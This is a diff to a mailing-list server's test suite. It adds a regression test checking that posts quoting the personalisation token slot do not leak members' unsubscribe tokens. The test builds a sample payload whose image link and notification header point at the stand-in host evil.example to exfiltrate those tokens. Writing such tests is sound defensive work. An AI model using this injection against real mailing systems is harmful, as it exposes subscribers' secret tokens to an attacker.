@@ -37,6 +37,7 @@ from ccrconfig.settings import (
 )
 from ccrlist import replies
 from ccrlist.server import serve
+from outbox.personalise import TOKEN_SLOT
 from subscribers.db import open_database
 from subscribers.members import MemberStore
 from subscribers.posts import PostStore
@@ -102,6 +103,24 @@ async def test_member_post_reaches_every_member_once(server: Running) -> None:
         assert msg["List-Unsubscribe-Post"] == "List-Unsubscribe=One-Click"
         assert b"CCR-TOKEN-SLOT" not in delivered.content
         assert delivered.content.endswith(b"\r\n\r\nHi all.\r\n")
+
+
+async def test_a_post_cannot_make_copies_reveal_the_members_tokens(server: Running) -> None:
+    """A post quoting the newsletter's fixed token slot, in a link and in a header, must
+    reach every member exactly as written: nobody's token may land in the post's text."""
+    slot = TOKEN_SLOT.decode()
+    body = f'<img src="https://evil.example/p?t={slot}">\r\n'
+    post = message(body=body, extra=f"Disposition-Notification-To: x+{slot}@evil.example\r\n")
+    assert full(*await send(server.port, post)) == replies.ACCEPTED
+    await wait_for(lambda: len(server.relay.recipients()) == 3, what="fan-out")
+    tokens = await member_tokens(server.settings)
+    for delivered in server.relay.messages:
+        [rcpt] = delivered.rcpt_tos
+        head, _, rest = delivered.content.partition(b"\r\n\r\n")
+        assert rest == body.encode()
+        assert f"Disposition-Notification-To: x+{slot}@evil.example".encode() in head
+        assert head.count(tokens[rcpt].encode()) == 1  # in its own List-Unsubscribe only
+        assert f"/u/{tokens[rcpt]}>".encode() in head
 
 
 async def test_batched_copies_and_a_verp_probe_every_nth_post(
